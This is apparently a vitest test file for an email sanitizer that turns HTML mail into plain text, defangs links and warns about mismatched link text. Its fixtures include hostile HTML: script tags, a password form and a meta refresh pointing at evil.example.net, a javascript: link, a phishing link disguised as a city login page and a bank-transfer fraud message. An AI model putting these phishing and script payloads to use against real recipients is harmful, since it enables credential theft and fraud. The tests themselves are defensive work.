import { describe, expect, it } from 'vitest';
import { defangText, defangUrl } from '../../src/core/defang.js';
import { violations } from '../helpers/conformance.js';
import { b64, eml, policyWith, run } from '../helpers/run.js';

const htmlMail = (html: string, text?: string): Buffer => {
  const headers = [
    'From: news@example.com',
    'To: staff@city.example.lg.jp',
    'Subject: html',
    'Date: Thu, 26 Nov 2026 10:00:00 +0900',
    'MIME-Version: 1.0',
  ];
  if (text === undefined) {
    return eml([...headers, 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64'], b64(html));
  }
  const body = [
    '--alt', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64', '', b64(text),
    '--alt', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '', b64(html),
    '--alt--', '',
  ].join('\r\n');
  return eml([...headers, 'Content-Type: multipart/alternative; boundary="alt"'], body);
};

const HOSTILE = `<!doctype html><html><head><title>t</title><style>.x{color:red}</style>
<script>alert('x')</script><meta http-equiv="refresh" content="0;url=https://evil.example.net/"></head>
<body onload="steal()"><h1>お知らせ</h1><p>本文です。<b>重要</b></p>
<form action="https://evil.example.net/post"><input name="pw" type="password"><button>送信</button></form>
<iframe src="https://evil.example.net/frame"></iframe><object data="x.swf"></object><embed src="y.swf">
<img src="https://track.example.com/open.gif?id=1" width="1" height="1">
<img src="https://cdn.example.com/p.jpg" alt="会場の写真">
<a href="https://www.example.jp/path?q=1">詳細はこちら</a>
<a href="javascript:alert(1)">クリック</a>
<a href="https://www.city.example.lg.jp/login">https://www.city.example.lg.jp/login</a>
<a href="https://evil.example.net/login">https://www.city.example.lg.jp/login</a>
<svg><script>alert(2)</script></svg><noscript>noscript text</noscript>
<table><tr><th>項目</th><td>値</td></tr></table></body></html>`;

describe('HTML bodies', () => {
  it('become text with no tag, script, style or form left', async () => {
    const o = await run(htmlMail(HOSTILE));
    const text = o.mail!.text!;
    expect(text).not.toMatch(/<[a-z!/][^>]*>/i);
    expect(text).not.toContain('alert');
    expect(text).not.toContain('color:red');
    expect(text).not.toContain('noscript text');
    expect(text).toContain('お知らせ');
    expect(text).toContain('本文です。重要');
    expect(text).toContain('項目');
    expect(o.mail!.html).toBe(false);
    expect(o.codes).toEqual(expect.arrayContaining(['html-converted', 'active-content-removed', 'remote-image-removed', 'link-defanged']));
    expect(await violations(o.raw!)).toEqual([]);
  });

  it('show images as [画像: alt] and drop remote images', async () => {
    const o = await run(htmlMail(HOSTILE));
    expect(o.mail!.text).toContain('[画像: 会場の写真]');
    expect(o.mail!.text).not.toContain('track.example.com');
    expect(o.result.findings.find((f) => f.code === 'remote-image-removed')?.detail).toBe('2');
  });

  it('show every link inert, next to its text', async () => {
    const o = await run(htmlMail(HOSTILE));
    const text = o.mail!.text!;
    expect(text).toContain('詳細はこちら [hxxps://www[.]example[.]jp/path?q=1]');
    expect(text).not.toMatch(/https?:\/\//);
    expect(text).not.toContain('javascript:');
  });

  it('disclose a link whose text names another host, with a warning line', async () => {
    const o = await run(htmlMail(HOSTILE));
    const text = o.mail!.text!;
    expect(text).toContain('[hxxps://evil[.]example[.]net/login]');
    expect(text).toMatch(/\[警告\] このリンクは表示上「www\[\.\]city\[\.\]example\[\.\]lg\[\.\]jp」ですが、実際のリンク先は「evil\[\.\]example\[\.\]net」です/);
    const mismatches = o.result.findings.filter((f) => f.code === 'link-text-mismatch');
    // The honest link to the same host is not flagged.
    expect(mismatches).toEqual([{ code: 'link-text-mismatch', detail: 'www.city.example.lg.jp -> evil.example.net' }]);
  });

  it('warn in English when the policy says so', async () => {
    const o = await run(htmlMail(HOSTILE), policyWith({ language: 'en' }));
    expect(o.mail!.text).toContain('[WARNING] This link shows "www[.]city[.]example[.]lg[.]jp" but leads to "evil[.]example[.]net"');
    expect(o.mail!.text).toContain('[image: 会場の写真]');
    expect(o.mail!.text).toContain('[Sanitization notice]');
  });

  it('multipart/alternative whose parts disagree shows the HTML text and says so', async () => {
    const o = await run(htmlMail('<p>口座番号を変更しました。新しい口座へ振り込んでください。</p>', '今月のお知らせはありません。'));
    expect(o.mail!.text).toContain('口座番号を変更しました。');
    expect(o.mail!.text).not.toContain('今月のお知らせはありません。');
    expect(o.codes).toContain('alternative-mismatch');
    expect(o.mail!.text).toContain('テキスト版とHTML版の内容が異なっていました');
  });

  it('multipart/alternative whose parts agree is not flagged', async () => {
    const o = await run(
      htmlMail(
        '<html><body><p>令和8年度の説明会を<b>5月20日</b>に開催します。</p><p>詳しくは<a href="https://www.pref.example.jp/">県のページ</a>をご覧ください。</p></body></html>',
        '令和8年度の説明会を5月20日に開催します。\n詳しくは県のページ（https://www.pref.example.jp/）をご覧ください。',
      ),
    );
    expect(o.codes).toContain('html-converted');
    expect(o.codes).not.toContain('alternative-mismatch');
  });
});

describe('links in text', () => {
  it('are defanged in plain-text bodies too', async () => {
    const o = await run(
      eml(
        ['From: a@example.jp', 'To: b@city.example.lg.jp', 'Subject: s', 'Date: Thu, 26 Nov 2026 10:00:00 +0900', 'Content-Type: text/plain; charset=utf-8'],
        'こちら（https://www.example.jp/a?b=c）と www.example.com と ftp://files.example.jp/x をどうぞ。',
      ),
    );
    expect(o.mail!.text).toContain('こちら（hxxps://www[.]example[.]jp/a?b=c）と www[.]example[.]com と fxp://files[.]example[.]jp/x');
    expect(o.result.findings).toContainEqual({ code: 'link-defanged', detail: '3' });
  });

  it('defangUrl keeps path and query and brackets only the authority', () => {
    expect(defangUrl('https://user@www.example.jp:8443/a.b/c?d=e.f')).toBe('hxxps://user@www[.]example[.]jp:8443/a.b/c?d=e.f');
    expect(defangUrl('mailto:x@example.jp')).toBe('mailto:x@example.jp');
    expect(defangText('no links here').count).toBe(0);
  });
});
